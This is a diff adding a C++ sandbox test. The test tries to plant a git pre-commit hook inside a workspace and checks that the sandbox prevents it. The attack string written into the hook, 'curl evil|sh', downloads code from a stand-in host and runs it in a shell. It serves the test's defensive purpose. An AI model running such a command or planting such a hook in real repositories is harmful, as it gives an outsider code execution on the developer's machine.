@@ -241,6 +241,18 @@ TEST_F(SandboxTest, ExoticSocketFamiliesAreRefusedInetIsNot) {
   EXPECT_EQ(Attack({"socket", "unix"}).output, "ALLOWED\n");
 }
 
+// A repository without .git/hooks (some tools make none): the folder is
+// made, empty, and protected like any other, so no hook can be planted.
+TEST_F(GitTest, MissingHooksFolderIsMadeAndProtected) {
+  fs::remove_all(ws_ / ".git/hooks");
+  auto r = Sh("mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit;"
+              "chmod +x .git/hooks/pre-commit; ls .git/hooks | wc -l");
+  EXPECT_TRUE(fs::is_directory(ws_ / ".git/hooks"));
+  EXPECT_FALSE(fs::exists(ws_ / ".git/hooks/pre-commit")) << r.output;
+  // No new top-level entry appears in a workspace that has no .sepp.
+  EXPECT_FALSE(fs::exists(ws_ / ".sepp"));
+}
+
 // --- network -----------------------------------------------------------------------
 
 class ListenerTest : public SandboxTest {
